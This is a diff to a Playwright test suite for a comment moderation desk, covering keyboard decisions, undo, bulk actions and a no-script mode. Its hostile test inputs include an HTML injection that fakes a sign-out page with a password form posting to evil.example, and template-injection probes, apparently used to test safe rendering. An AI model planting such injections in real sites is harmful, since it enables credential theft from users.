@@ -6,7 +6,7 @@ from typing import Any
 
 import pyotp
 import pytest
-from pages import PASSWORD, Desk, browsing, forum, moderator, violations
+from pages import PASSWORD, Desk, forum, moderator, texts, violations
 from playwright.sync_api import Browser, expect
 from steward import Steward
 
@@ -19,12 +19,6 @@ HOSTILE = {
     "h-6": "</div></article></main><h1>Signed out</h1><form action=https://evil.example><input name=password>",
     "h-7": "{{7*7}} ${7*7} <!-- \n" * 50,
 }
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with browsing() as browser:
-        yield browser
 
 
 @pytest.fixture
@@ -74,36 +68,33 @@ def test_the_first_start_lets_its_operator_in_who_comes_back_with_two_factors(
     desk.complaints.clear()  # which the browser says of that one
 
 
-def test_fifty_comments_are_cleared_by_keys_alone(desk: Desk, service: Steward) -> None:
-    ids = [f"k-{n:02}" for n in range(50)]
-    site = forum(service, "keys", {each: f"Comment number {each}, and what do you say?" for each in ids})
+def test_two_dozen_comments_are_cleared_by_keys_alone(desk: Desk, service: Steward) -> None:
+    ids = [f"k-{n:02}" for n in range(24)]
+    site = forum(service, "keys", texts(*ids))
     moderator(service, "keys", "olena")
     desk.sign_in("olena")
     seen: list[str] = []
     desk.requests.clear()
-    while len(seen) < 50:
+    while len(seen) < 24:
         seen.append(desk.wait_for_card(seen[-1] if seen else None))
         desk.press(*(("r", str(len(seen) % 10)) if len(seen) % 3 == 0 else ("a",)))
     desk.wait_until_sent()
     assert sorted(seen) == ids, "each of them, once, the most urgent first"
     assert seen == ids
-    expected = ["rejected" if (n + 1) % 3 == 0 else "approved" for n in range(50)]
+    expected = ["rejected" if (n + 1) % 3 == 0 else "approved" for n in range(24)]
     assert site.statuses(ids) == expected
-    sent = [each for each in desk.requests if "/decision" in each]
-    assert len(sent) == 50
+    assert len(desk.decisions) == 24
     claims = [each for each in desk.requests if "/queue/claim" in each]
-    assert len(claims) < 25, "the next comments come several at a time, before they are needed"
+    assert len(claims) < 20, "the next comments come several at a time, before they are needed"
     labels = site.get("/v1/labels").text.splitlines()
-    assert sum('"reason":"personal_attack"' in label for label in labels) == len(
-        [n for n in range(3, 51, 3) if n % 10 == 1]
-    )
+    assert sum('"reason":"personal_attack"' in label for label in labels) == 1, "only the 21st was rejected by 1"
     expect(desk.page.get_by_text("Nothing for you just now.")).to_be_visible()
-    site.post({"k-50": "One more, please."})
-    assert desk.wait_for_card() == "k-50", "it comes by itself"
+    site.post({"k-24": "One more, please."})
+    assert desk.wait_for_card() == "k-24", "it comes by itself"
 
 
 def test_a_decision_is_taken_back_by_a_key_or_by_the_toast(desk: Desk, service: Steward) -> None:
-    site = forum(service, "undo", {f"u-{n}": f"Comment {n}, what do you say?" for n in range(4)})
+    site = forum(service, "undo", texts(*(f"u-{n}" for n in range(4))))
     moderator(service, "undo", "jan")
     desk.sign_in("jan")
     assert desk.wait_for_card() == "u-0"
@@ -135,7 +126,7 @@ def test_a_decision_is_taken_back_by_a_key_or_by_the_toast(desk: Desk, service: 
 
 
 def test_a_key_that_is_held_down_decides_one_comment(desk: Desk, service: Steward) -> None:
-    site = forum(service, "held", {f"d-{n}": f"Comment {n}, what do you say?" for n in range(4)})
+    site = forum(service, "held", texts(*(f"d-{n}" for n in range(4))))
     moderator(service, "held", "mia")
     desk.sign_in("mia")
     desk.wait_for_card()
@@ -158,7 +149,7 @@ def test_a_key_that_is_held_down_decides_one_comment(desk: Desk, service: Stewar
 
 def test_many_are_decided_in_the_list_and_taken_back_at_once(desk: Desk, service: Steward) -> None:
     ids = [f"b-{n}" for n in range(8)]
-    site = forum(service, "bulk", {each: f"Comment {each}, what do you say?" for each in ids})
+    site = forum(service, "bulk", texts(*ids))
     moderator(service, "bulk", "ada")
     desk.sign_in("ada")
     desk.wait_for_card()
@@ -174,12 +165,12 @@ def test_many_are_decided_in_the_list_and_taken_back_at_once(desk: Desk, service
     expect(rows).to_have_count(free - 3)
     desk.wait_until_sent()
     assert site.statuses(ids).count("rejected") == 3
-    desk.page.wait_for_timeout(260)
+    desk.rest()
     desk.press("u")
     expect(rows).to_have_count(free)
     desk.wait_until_sent()
     assert site.statuses(ids).count("rejected") == 0
-    desk.page.wait_for_timeout(260)
+    desk.rest()
     desk.press("A")
     desk.press("k", "k", "k", "a")
     expect(rows).to_have_count(free - 1)
@@ -231,17 +222,17 @@ def check_layout(desk: Desk) -> None:
 
 
 def test_without_scripts_comments_are_read_decided_and_taken_back(browser: Browser, service: Steward) -> None:
-    site = forum(service, "plain", {f"p-{n}": f"Comment {n}, what do you say?" for n in range(3)})
+    site = forum(service, "plain", texts("p-0", "p-1", "p-2"))
     moderator(service, "plain", "ida")
     desk = Desk.open(browser, service, java_script_enabled=False)
     page = desk.page
     desk.sign_in("ida")
     page.get_by_role("button", name="Take the next one").click()
-    expect(page.locator("article.card .text")).to_have_text("Comment 0, what do you say?")
+    expect(page.locator("article.card .text")).to_have_text("Comment p-0, what do you say?")
     page.locator('[data-choice="reject"] summary').click()
     page.get_by_role("button", name="Threat").click()
     expect(page.get_by_role("status").first).to_contain_text("Rejected")
-    expect(page.locator("article.card .text")).to_have_text("Comment 1, what do you say?")
+    expect(page.locator("article.card .text")).to_have_text("Comment p-1, what do you say?")
     assert site.statuses(["p-0"]) == ["rejected"]
     page.get_by_role("button", name="Take back").click()
     assert site.statuses(["p-0"]) == ["pending"]
@@ -255,7 +246,7 @@ def test_without_scripts_comments_are_read_decided_and_taken_back(browser: Brows
 
 
 def test_keys_can_be_others_and_help_shows_them(desk: Desk, service: Steward) -> None:
-    site = forum(service, "other", {f"o-{n}": f"Comment {n}, what do you say?" for n in range(3)})
+    site = forum(service, "other", texts("o-0", "o-1", "o-2"))
     moderator(service, "other", "tom")
     desk.sign_in("tom")
     desk.go("/account#keys")
